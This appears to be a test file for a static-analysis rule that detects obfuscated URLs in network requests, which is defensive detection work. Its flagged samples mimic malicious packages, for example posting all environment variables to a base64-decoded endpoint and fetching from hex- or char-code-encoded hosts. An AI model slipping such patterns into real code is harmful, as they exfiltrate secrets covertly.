const axios = require("axios");
const https = require("https");

// AjunaVerse: verify(setApiKey(process.env.AUTH_API)) with setApiKey = atob
function verify() {
  const api = atob(process.env.AUTH_API);
  // ruleid: encoded-url-in-request
  return axios.post(api, { ...process.env }, { headers: { "x-app-request": "ip-check" } });
}

// Triple Fork: axios.get(atob(env.CONFIG_ENDPOINT))
function config(env) {
  // ruleid: encoded-url-in-request
  return axios.get(atob(env.CONFIG_ENDPOINT));
}

function hexHost() {
  const host = Buffer.from("6170692e6e706f696e742e696e76616c6964", "hex").toString();
  // ruleid: encoded-url-in-request
  https.get("https://" + host + "/x", () => {});
}

function charCodes(codes) {
  // ruleid: encoded-url-in-request
  fetch(String.fromCharCode(...codes));
}

function plain() {
  // ok: encoded-url-in-request
  return axios.get("https://api.example.invalid/v1/items");
}

function decodedBody(token) {
  // ok: encoded-url-in-request
  return axios.post("https://api.example.invalid/login", { token: atob(token) });
}
